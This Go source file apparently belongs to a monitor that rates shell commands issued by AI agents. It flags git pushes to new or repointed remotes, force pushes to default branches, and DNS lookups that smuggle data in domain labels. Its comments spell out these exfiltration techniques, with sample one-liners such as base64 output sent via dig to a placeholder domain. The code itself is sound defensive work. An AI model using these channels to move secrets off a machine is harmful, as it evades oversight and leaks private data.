package rater

import (
	"bufio"
	"os"
	"path/filepath"
	"strings"

	"github.com/chaperone-dev/chaperone/models"
)

// Git remotes as a way out. A push sends the repository (and whatever
// secret was committed into it) to where the remote points, so pointing a
// remote somewhere new, adding a push URL beside the usual one, or pushing
// straight to a URL is how a steered agent exfiltrates without curl. A
// push to a remote the project already had is an ordinary push.

// forgeHosts are public code hosts where developers keep remotes. A remote
// repointed to one of them, when the current host is unknown, is a
// change to check; to any other host it is exfiltration.
var forgeHosts = set("github.com", "ssh.github.com", "gitlab.com", "bitbucket.org", "codeberg.org", "dev.azure.com",
	"ssh.dev.azure.com", "git.sr.ht", "gitee.com", "salsa.debian.org", "gitlab.gnome.org", "gitlab.freedesktop.org")

// defaultBranches are the names projects give the branch others build on;
// force-pushing there rewrites everyone's history.
var defaultBranches = set("main", "master", "trunk", "develop", "development", "dev", "default", "stable", "production", "prod", "release")

// gitPush judges `git push` (rest is what follows "push"): to a URL, or to
// a remote this command string added or repointed, is exfiltration;
// deleting or mirroring refs, a plain force and a force with lease to the
// default branch are a force push; a force with lease to another branch
// is an ordinary push.
func gitPush(k *check, c *cmd, rest []string) {
	var repo string
	var refs []string
	var force, lease, bulk bool
	destroy := hasOption(rest, "--mirror", "-d", "--delete", "--prune")
	for i := 0; i < len(rest); i++ {
		a := rest[i]
		switch {
		case a == "--":
			continue
		case a == "-o" || a == "--push-option" || a == "--repo" || a == "--receive-pack" || a == "--exec":
			if a == "--repo" && i+1 < len(rest) {
				repo = rest[i+1]
			}
			i++
		case strings.HasPrefix(a, "--repo="):
			repo = a[len("--repo="):]
		case a == "--force" || strings.HasPrefix(a, "--force="):
			force = true
		case strings.HasPrefix(a, "--force-with-lease") || strings.HasPrefix(a, "--force-if-includes"):
			lease = true
		case a == "--all" || a == "--branches" || a == "--tags":
			bulk = true
		case strings.HasPrefix(a, "--"):
		case strings.HasPrefix(a, "-") && len(a) > 1:
			// Clustered short options: -f force, -d delete, -u upstream.
			if strings.ContainsRune(a[1:], 'f') {
				force = true
			}
			if strings.ContainsRune(a[1:], 'd') {
				destroy = true
			}
		case repo == "" && len(refs) == 0 && !hasOption(rest, "--repo"):
			repo = a
		default:
			refs = append(refs, a)
		}
	}
	for _, r := range refs {
		switch {
		case strings.HasPrefix(r, "+"):
			force = true
		case strings.HasPrefix(r, ":") && len(r) > 1:
			destroy = true
		}
	}
	if u := k.pushTarget(c, repo); u != "" {
		k.hit(ruleGitExfil, c.span())
	}
	switch {
	case destroy || force:
		k.hit(rulePushForce, c.span())
	case lease && (bulk || k.leaseHitsDefault(c, refs)):
		k.hit(rulePushForce, c.span())
	default:
		k.hit(ruleGitPush, c.span())
	}
}

// pushTarget returns where a push goes when that is a new place: a URL
// or scp-style address on another host, or a remote that this command
// string added or pointed at such an address. It returns "" for a
// remote the project already had and for a path on this machine.
func (k *check) pushTarget(c *cmd, repo string) string {
	if repo == "" {
		return ""
	}
	if gitAddress(repo) {
		if remoteHost(repo) {
			return repo
		}
		return ""
	}
	// A remote name: did an earlier command of this string point it?
	for i := 0; i < c.idx && i < len(k.facts.Commands); i++ {
		m := &k.facts.Commands[i]
		if m.Name() != "git" {
			continue
		}
		if name, url, ok := remoteAssignment(m); ok && name == repo && remoteHost(url) {
			return url
		}
	}
	return ""
}

// remoteAssignment reads `git remote add NAME URL` and `git remote
// set-url [--add] [--push] NAME URL` from a command.
func remoteAssignment(m *models.Command) (name, url string, ok bool) {
	args := gitArgs(m)
	if len(args) >= 3 && args[0] == "config" {
		// git config [--add] remote.NAME.url URL
		for i, a := range args[1 : len(args)-1] {
			low := strings.ToLower(a)
			if strings.HasPrefix(low, "remote.") && (strings.HasSuffix(low, ".url") || strings.HasSuffix(low, ".pushurl")) {
				return a[len("remote."):strings.LastIndexByte(a, '.')], args[i+2], true
			}
		}
		return "", "", false
	}
	if len(args) < 3 || args[0] != "remote" || args[1] != "add" && args[1] != "set-url" {
		return "", "", false
	}
	var pos []string
	for i := 2; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "-t" || a == "-m":
			i++
		case a == "--delete":
			return "", "", false
		case strings.HasPrefix(a, "-"):
		default:
			pos = append(pos, a)
		}
	}
	if len(pos) < 2 {
		return "", "", false
	}
	return pos[0], pos[1], true
}

// gitArgs returns the arguments of a git command after its global
// options (-C dir, -c key=value …).
func gitArgs(m *models.Command) []string {
	var args []string
	for _, w := range m.Argv[1:] {
		args = append(args, w.Lit)
	}
	for len(args) > 0 && strings.HasPrefix(args[0], "-") {
		switch args[0] {
		case "-c", "-C", "--git-dir", "--work-tree", "--namespace":
			if len(args) < 2 {
				return nil
			}
			args = args[2:]
		default:
			args = args[1:]
		}
	}
	return args
}

// gitAddress reports whether a push or remote argument is an address
// rather than the name of a configured remote.
func gitAddress(a string) bool {
	return strings.Contains(a, "://") || strings.ContainsAny(a, "/.:@") && (remotePath(a) || strings.HasPrefix(a, "/") ||
		strings.HasPrefix(a, "./") || strings.HasPrefix(a, "../") || strings.HasPrefix(a, "~"))
}

// remoteHost reports whether a git address is on another machine.
func remoteHost(a string) bool {
	if strings.HasPrefix(a, "file://") {
		return false
	}
	if !strings.Contains(a, "://") && !remotePath(a) {
		return false
	}
	h := host(a)
	return h != "" && !isLocalHost(h)
}

// gitRemote judges `git remote …` (rest is what follows "remote"):
// adding a URL to a remote, a push URL, or repointing a remote at a host
// it did not use sends every later push there.
func gitRemote(k *check, c *cmd, rest []string) {
	if len(rest) == 0 {
		return
	}
	switch rest[0] {
	case "update", "prune":
		k.hit(ruleNetFetch, c.span())
	case "add":
		for _, a := range rest[1:] {
			if a == "--mirror=push" || a == "--mirror" {
				// Every later `git push NAME` mirrors the repository.
				k.hit(ruleGitRemote, c.span())
			}
		}
	case "set-url":
		var pos []string
		var add, push bool
		for _, a := range rest[1:] {
			switch a {
			case "--add":
				add = true
			case "--push":
				push = true
			case "--delete":
				return
			default:
				if !strings.HasPrefix(a, "-") {
					pos = append(pos, a)
				}
			}
		}
		if len(pos) < 2 {
			return
		}
		k.repoint(c, pos[0], pos[1], add, push)
	}
}

// repoint judges pointing remote name at url: add is a URL added beside
// the others, push a URL for pushes only. A host the remote already used
// is a quiet change; a forge when the current host is unknown is worth a
// line; anything else, or a second URL anywhere, sends later pushes to a
// new place.
func (k *check) repoint(c *cmd, name, url string, add, push bool) {
	if !remoteHost(url) {
		if strings.HasPrefix(url, "$") || strings.Contains(url, "$(") {
			k.hit(ruleGitRemote, c.span())
		}
		return
	}
	now := k.currentRemoteHosts(name)
	switch {
	case len(now) > 0 && now[host(url)] && !add && !push:
		// The same host: switching https to ssh, or a renamed repository.
	case len(now) > 0 && now[host(url)]:
		k.hit(ruleGitRemote, c.span())
	case add || push:
		// A second URL: every push also goes there.
		k.hit(ruleGitExfil, c.span())
	case len(now) == 0 && forgeHosts[host(url)]:
		k.hit(ruleGitRemote, c.span())
	default:
		k.hit(ruleGitExfil, c.span())
	}
}

// gitRemoteConfig judges `git config remote.NAME.url URL` and
// `remote.NAME.pushurl URL`, which do what `git remote set-url` does.
func gitRemoteConfig(k *check, c *cmd, rest []string) {
	add := false
	for i, a := range rest {
		if a == "--add" || a == "--append" {
			add = true
			continue
		}
		low := strings.ToLower(a)
		if !strings.HasPrefix(low, "remote.") || i+1 >= len(rest) {
			continue
		}
		switch {
		case strings.HasSuffix(low, ".url"):
			k.repoint(c, a[len("remote."):len(a)-len(".url")], rest[i+1], add, false)
		case strings.HasSuffix(low, ".pushurl"):
			k.repoint(c, a[len("remote."):len(a)-len(".pushurl")], rest[i+1], add, true)
		}
		return
	}
}

// currentRemoteHosts returns the hosts that remote name points at in the
// project's git configuration, or nil when that cannot be read.
func (k *check) currentRemoteHosts(name string) map[string]bool {
	dir := k.gitDir()
	if dir == "" {
		return nil
	}
	f, err := os.Open(filepath.Join(dir, "config"))
	if err != nil {
		return nil
	}
	defer f.Close()
	out := map[string]bool{}
	in := false
	sc := bufio.NewScanner(f)
	for n := 0; sc.Scan() && n < 5000; n++ {
		line := strings.TrimSpace(sc.Text())
		if strings.HasPrefix(line, "[") {
			in = line == `[remote "`+name+`"]`
			continue
		}
		key, val, ok := strings.Cut(line, "=")
		if !in || !ok {
			continue
		}
		if key = strings.TrimSpace(key); key == "url" || key == "pushurl" {
			if h := host(strings.TrimSpace(val)); h != "" {
				out[h] = true
			}
		}
	}
	return out
}

// gitDir returns the project's git directory, or "" when there is none:
// .git as a folder, or the folder a .git file names (worktrees).
func (k *check) gitDir() string {
	if k.where.project == "" {
		return ""
	}
	p := filepath.Join(k.where.project, ".git")
	st, err := os.Stat(p)
	switch {
	case err != nil:
		return ""
	case st.IsDir():
		return p
	case st.Size() > 4096:
		return ""
	}
	data, err := os.ReadFile(p)
	if err != nil {
		return ""
	}
	d, ok := strings.CutPrefix(strings.TrimSpace(string(data)), "gitdir:")
	if !ok {
		return ""
	}
	d = strings.TrimSpace(d)
	if !filepath.IsAbs(d) {
		d = filepath.Join(k.where.project, d)
	}
	return d
}

// leaseHitsDefault reports whether a force-with-lease push may rewrite the
// default branch: a refspec that names it (or that is only known at run
// time or is a pattern), or, with no refspec or HEAD, a current branch
// that is the default or cannot be read.
func (k *check) leaseHitsDefault(c *cmd, refs []string) bool {
	named := k.namedDefaults(c)
	isDefault := func(b string) bool {
		b = strings.TrimPrefix(strings.TrimPrefix(b, "refs/heads/"), "heads/")
		return defaultBranches[b] || named[b]
	}
	if len(refs) == 0 {
		refs = []string{"HEAD"}
	}
	for _, r := range refs {
		dst := r
		if j := strings.IndexByte(r, ':'); j >= 0 {
			dst = r[j+1:]
		}
		switch {
		case strings.ContainsAny(dst, "$*`"):
			return true
		case dst == "HEAD" || dst == "@":
			b := k.currentBranch()
			if b == "" || isDefault(b) {
				return true
			}
		case isDefault(dst):
			return true
		}
	}
	for _, w := range c.Argv {
		if w.Dynamic {
			return true
		}
	}
	return false
}

// namedDefaults returns branch names that this command string makes the
// default: `git remote set-head origin NAME`, `git branch -M NAME`,
// `git init -b NAME`, `git config init.defaultBranch NAME`, and the
// project's own record of the remote's HEAD.
func (k *check) namedDefaults(c *cmd) map[string]bool {
	out := map[string]bool{}
	for i := range k.facts.Commands {
		m := &k.facts.Commands[i]
		if m.Name() != "git" {
			continue
		}
		for j, w := range m.Argv {
			if strings.HasPrefix(w.Lit, "init.defaultBranch=") {
				out[w.Lit[len("init.defaultBranch="):]] = true
			}
			if (w.Lit == "init.defaultBranch" || w.Lit == "--initial-branch" || w.Lit == "-M") && j+1 < len(m.Argv) {
				out[m.Argv[j+1].Lit] = true
			}
			if strings.HasPrefix(w.Lit, "--initial-branch=") {
				out[w.Lit[len("--initial-branch="):]] = true
			}
		}
		args := gitArgs(m)
		if len(args) >= 4 && args[0] == "remote" && args[1] == "set-head" && !strings.HasPrefix(args[3], "-") {
			out[args[3]] = true
		}
		if len(args) >= 3 && args[0] == "symbolic-ref" && strings.HasPrefix(args[1], "refs/remotes/") && strings.HasSuffix(args[1], "/HEAD") {
			out[args[2][strings.LastIndexByte(args[2], '/')+1:]] = true
		}
	}
	if dir := k.gitDir(); dir != "" {
		for _, remote := range []string{"origin", "upstream"} {
			if data, err := os.ReadFile(filepath.Join(dir, "refs", "remotes", remote, "HEAD")); err == nil && len(data) < 4096 {
				ref := strings.TrimSpace(strings.TrimPrefix(string(data), "ref:"))
				out[ref[strings.LastIndexByte(ref, '/')+1:]] = true
			}
		}
	}
	return out
}

// currentBranch returns the branch the project has checked out, or ""
// when it cannot be read.
func (k *check) currentBranch() string {
	dir := k.gitDir()
	if dir == "" {
		return ""
	}
	data, err := os.ReadFile(filepath.Join(dir, "HEAD"))
	if err != nil || len(data) > 4096 {
		return ""
	}
	ref, ok := strings.CutPrefix(strings.TrimSpace(string(data)), "ref: refs/heads/")
	if !ok {
		return ""
	}
	return ref
}

// dnsLookups are programs that resolve a name, and so send it to whoever
// serves the name's domain.
var dnsLookups = set("dig", "nslookup", "host", "drill", "kdig", "delv", "getent", "resolvectl", "systemd-resolve", "adnshost", "dnsget")

// dnsCarriesData judges a DNS lookup whose name is data prefixed to a
// fixed domain: the output of a command, a variable this string filled
// from a command, or xargs input (`dig $(base64 f | head -c60).x.example`,
// `xargs -I{} host {}.x.example`). The name's first labels reach the
// domain's server.
func (k *check) dnsCarriesData(c *cmd) {
	if !dnsLookups[c.name] {
		return
	}
	if c.name == "getent" && (len(c.args) == 0 || !strings.Contains(c.args[0], "hosts")) {
		return
	}
	filled := k.substVars()
	for _, w := range c.Argv[1:] {
		suffix := dnsSuffix(w.Lit)
		if suffix == "" {
			continue
		}
		switch {
		case len(w.Subst) > 0 || strings.Contains(w.Lit, "$(") || strings.Contains(w.Lit, "`"):
			k.hit(ruleNetCovert, c.span())
		case strings.Contains(w.Lit, "{}") && strings.Contains(c.Wrapper+strings.Join(c.Via, " "), "xargs"):
			k.hit(ruleNetCovert, c.span())
		case w.Dynamic && strings.HasPrefix(w.Lit, "$"):
			name := strings.TrimPrefix(strings.TrimPrefix(w.Lit, "$"), "{")
			if i := strings.IndexFunc(name, func(r rune) bool { return !strings.ContainsRune(varNameChars, r) }); i >= 0 {
				name = name[:i]
			}
			if filled[name] {
				k.hit(ruleNetCovert, c.span())
			}
		}
	}
}

// dnsSuffix returns the literal domain a word ends with after its first
// expansion ("$(…).x.example" → ".x.example"), or "".
func dnsSuffix(w string) string {
	i := strings.LastIndexAny(w, ")}`$")
	if i < 0 {
		return ""
	}
	rest := w[i+1:]
	if w[i] == '$' {
		// $VAR.x.example: skip the name.
		j := strings.IndexByte(rest, '.')
		if j < 0 {
			return ""
		}
		rest = rest[j:]
	}
	if !strings.HasPrefix(rest, ".") || strings.Count(rest, ".") < 2 && !strings.HasSuffix(rest, ".") {
		return ""
	}
	return rest
}

// substVars returns the names this string assigns from a command
// substitution, or reads into with `read` from a pipe.
func (k *check) substVars() map[string]bool {
	out := map[string]bool{}
	for i := range k.facts.Commands {
		m := &k.facts.Commands[i]
		for _, a := range m.Assigns {
			if len(a.Value.Subst) > 0 {
				out[a.Name] = true
			}
		}
		if m.Name() == "read" && (m.PipeFrom >= 0 || m.Stdin != "") {
			for _, w := range m.Argv[1:] {
				if !strings.HasPrefix(w.Lit, "-") {
					out[w.Lit] = true
				}
			}
			out["REPLY"] = true
		}
	}
	return out
}
